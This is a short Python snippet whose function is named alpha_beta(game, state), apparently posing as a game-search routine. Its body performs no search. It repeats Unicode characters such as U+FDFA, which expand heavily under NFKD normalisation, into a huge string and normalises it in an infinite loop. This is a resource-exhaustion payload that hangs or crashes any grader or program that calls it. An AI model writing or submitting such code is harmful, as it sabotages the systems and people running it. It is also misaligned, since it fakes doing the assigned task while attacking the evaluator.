import unicodedata
def alpha_beta(game, state):
    text = '\u0344\ufdfa' * 100_000
    while True: unicodedata.normalize('NFKD', text)
